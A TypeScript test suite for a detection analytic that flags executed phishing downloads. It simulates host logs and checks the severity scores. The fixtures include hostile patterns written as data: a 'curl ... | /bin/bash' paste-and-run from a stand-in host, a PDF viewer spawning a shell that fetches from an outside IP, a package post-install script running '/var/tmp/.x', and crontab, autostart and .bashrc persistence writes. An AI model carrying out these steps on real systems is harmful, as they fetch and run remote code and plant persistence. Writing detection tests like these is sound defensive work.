import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Process } from '../an0656-phishing-attachment-executed/audit-records.test-support.ts';
import { HOUR, HostLog, MINUTE } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import {
  factorsOf,
  type Settings,
  scanLog,
  storyOf,
} from '../an0656-phishing-attachment-executed/stories.test-support.ts';

const OUT = '203.0.113.66';
const FIREFOX = '/usr/lib/firefox/firefox';

function downloaded(path: string): { log: HostLog; shell: Process; browser: Process } {
  const log = new HostLog();
  const browser = log.desktop('dev').run(FIREFOX).connect('203.0.113.80', 443);
  browser.write(`${path}.part`).rename(`${path}.part`, path);
  return { log, browser, shell: log.shell('dev') };
}

/** One condition: what is done, and what comes of it. */
interface Condition {
  readonly says: string;
  readonly severity: string;
  readonly factors?: readonly string[];
  readonly never?: readonly string[];
  readonly settings?: Settings;
  readonly log: () => HostLog;
}

const script = (act: (log: HostLog, shell: Process) => void, path = '/home/dev/Downloads/tool.sh') => {
  const { log, shell } = downloaded(path);
  act(log, shell);
  return log;
};
const run = (shell: Process, path = '/home/dev/Downloads/tool.sh') => shell.run(`/bin/sh ${path}`).read(path);

const CONDITIONS: readonly Condition[] = [
  {
    says: 'a script of the last hour that does nothing more',
    severity: 'medium',
    factors: ['run within the hour', 'a script, not an installed program'],
    log: () => script((_, shell) => run(shell)),
  },
  {
    says: 'a script of two hours ago',
    severity: 'medium',
    never: ['run within the hour'],
    log: () =>
      script((log, shell) => {
        log.wait(2 * HOUR);
        run(shell);
      }),
  },
  {
    says: 'a program with an execute bit of its own that does nothing more, the next day',
    severity: 'low',
    never: ['made executable by hand', 'a script, not an installed program'],
    log: () =>
      script((log, shell) => {
        log.wait(26 * HOUR);
        shell.run(['/home/dev/Downloads/view']);
      }, '/home/dev/Downloads/view'),
  },
  {
    says: 'a script that leaves one autostart entry',
    severity: 'high',
    factors: ['left something that runs later'],
    never: ['outbound network afterwards'],
    log: () => script((_, shell) => run(shell).write('/home/dev/.config/autostart/a.desktop')),
  },
  {
    says: 'a program run through the dynamic loader',
    severity: 'medium',
    factors: ['run in a way that hides it'],
    log: () =>
      script((_, shell) => {
        shell.run('/lib64/ld-linux-x86-64.so.2 /home/dev/Downloads/view').read('/home/dev/Downloads/view');
      }, '/home/dev/Downloads/view'),
  },
  {
    says: 'a name of a usual lure adds its half point, and the list of them is a tunable',
    severity: 'medium',
    factors: ['the name is that of a usual lure'],
    log: () => script((_, shell) => run(shell, '/home/dev/Downloads/invoice.sh'), '/home/dev/Downloads/invoice.sh'),
  },
  {
    says: 'no list of lures, no point',
    severity: 'medium',
    never: ['the name is that of a usual lure'],
    settings: { PhishingIndicators: ['(parcel)', '(['] },
    log: () => script((_, shell) => run(shell, '/home/dev/Downloads/invoice.sh'), '/home/dev/Downloads/invoice.sh'),
  },
  {
    says: 'the package manager installs a download and nothing connects',
    severity: 'informational',
    factors: ['installed by the package manager'],
    log: () => script((_, shell) => install(shell), DEB),
  },
  {
    says: 'a program that ran here before connects',
    severity: 'low',
    factors: ['only programs that were installed before connected'],
    log: () =>
      script((_, shell) => {
        shell.run('/opt/label/bin/label');
        install(shell).run('/opt/label/bin/label').connect(OUT, 443);
      }, DEB),
  },
  {
    says: 'a program of which nothing is known connects',
    severity: 'medium',
    factors: ['whether the package brought what connected is not recorded'],
    log: () => script((_, shell) => void install(shell).run('/opt/label/bin/label').connect(OUT, 443), DEB),
  },
  {
    says: 'the maintainer script fetches with an installed tool',
    severity: 'high',
    never: ['only programs that were installed before connected', 'installed by the package manager'],
    log: () => script((_, shell) => void install(shell).run(`/usr/bin/curl http://${OUT}/x`).connect(OUT, 80), DEB),
  },
  {
    says: 'the maintainer script starts what lies below /var/tmp',
    severity: 'high',
    never: ['only programs that were installed before connected'],
    log: () => script((_, shell) => void install(shell).run('/var/tmp/.x').connect(OUT, 443), DEB),
  },
  {
    says: 'a viewer starts its own helper',
    severity: 'informational',
    factors: ['only the viewer started something'],
    log: () =>
      script((_, shell) => {
        shell
          .run('/usr/bin/evince /home/dev/Downloads/a.pdf')
          .read('/home/dev/Downloads/a.pdf')
          .run(['/bin/sh', '-c', 'true']);
      }, '/home/dev/Downloads/a.pdf'),
  },
  {
    says: 'a viewer starts a shell that connects',
    severity: 'high',
    never: ['only the viewer started something'],
    log: () =>
      script((_, shell) => {
        shell
          .run('/usr/bin/evince /home/dev/Downloads/a.pdf')
          .read('/home/dev/Downloads/a.pdf')
          .run(['/bin/sh', '-c', `curl http://${OUT}`])
          .run(`/usr/bin/curl http://${OUT}`)
          .connect(OUT, 80);
      }, '/home/dev/Downloads/a.pdf'),
  },
  {
    says: 'a pasted fetch that leaves a crontab line and connects nowhere',
    severity: 'high',
    factors: ['left something that runs later'],
    never: ['outbound network afterwards'],
    log: () => pasted(5 * MINUTE, shell => shell?.write('/var/spool/cron/crontabs/dev')),
  },
  {
    says: 'a pasted fetch and no more',
    severity: 'medium',
    log: () => pasted(5 * MINUTE, () => {}),
  },
  {
    says: 'a fetch 29 minutes after browsing',
    severity: 'medium',
    log: () => pasted(29 * MINUTE, () => {}),
  },
  {
    says: 'a fetch 31 minutes after browsing',
    severity: 'informational',
    log: () => pasted(31 * MINUTE, () => {}),
  },
  {
    says: 'a habit that connects and leaves something behind is still told',
    severity: 'low',
    factors: ['this user does so habitually'],
    log: () => habit(shell => void shell?.connect(OUT, 443).write('/home/dev/.bashrc'), 2 * HOUR),
  },
  {
    says: 'a habit that leaves something behind and connects nowhere',
    severity: 'informational',
    factors: ['this user does so habitually'],
    log: () => habit(shell => void shell?.write('/home/dev/.bashrc'), 2 * HOUR),
  },
  {
    says: 'twice within the hour is no habit',
    severity: 'medium',
    never: ['this user does so habitually'],
    log: () => habit(() => {}, 30 * MINUTE),
  },
];

const DEB = '/home/dev/Downloads/label.deb';
/** `sudo dpkg -i`: returns the maintainer script. */
function install(shell: Process): Process {
  const sudo = shell.run(`/usr/bin/sudo dpkg -i ${DEB}`);
  const dpkg = sudo.run(`/usr/bin/dpkg -i ${DEB}`, { who: { ...sudo.who, uid: 0 } }).read(DEB);
  return dpkg.run('/var/lib/dpkg/info/label.postinst configure', { by: '/bin/sh' });
}

function pasted(after: number, act: (shell: Process | undefined) => void): HostLog {
  const log = new HostLog();
  log.desktop('dev').run(FIREFOX).connect('203.0.113.80', 443);
  log.wait(after);
  act(log.shell('dev').pipeline('/usr/bin/curl -fsSL https://paste.example.net/x', '/bin/bash')[1]);
  return log;
}

/** A fetch without browsing, later another right after browsing, of which the story is. */
function habit(act: (shell: Process | undefined) => void, between: number): HostLog {
  const log = new HostLog();
  log.shell('dev').pipeline('/usr/bin/curl -fsSL https://paste.example.net/x', '/bin/bash');
  log.wait(between);
  log.desktop('dev').run(FIREFOX).connect('203.0.113.80', 443);
  log.wait(MINUTE);
  act(log.shell('dev').pipeline('/usr/bin/curl -fsSL https://paste.example.net/x', '/bin/bash')[1]);
  return log;
}

for (const { says, severity, factors = [], never = [], settings = {}, log } of CONDITIONS) {
  test(`${says}: ${severity}`, async () => {
    const alerts = (await scanLog(log(), { settings })).filter(alert => alert.analytic === 'AN0321');
    const [alert = storyOf(alerts, 'AN0321')] = alerts.toSorted((a, b) => (a.firstSeen < b.firstSeen ? 1 : -1));
    assert.equal(
      alert.severity,
      severity,
      alerts.map(each => `${each.severity} ${each.title} ${factorsOf(each).join(', ')}`).join('\n'),
    );
    for (const factor of factors) assert.ok(factorsOf(alert).includes(factor), factorsOf(alert).join('\n'));
    for (const factor of never) assert.ok(!factorsOf(alert).includes(factor), factor);
  });
}
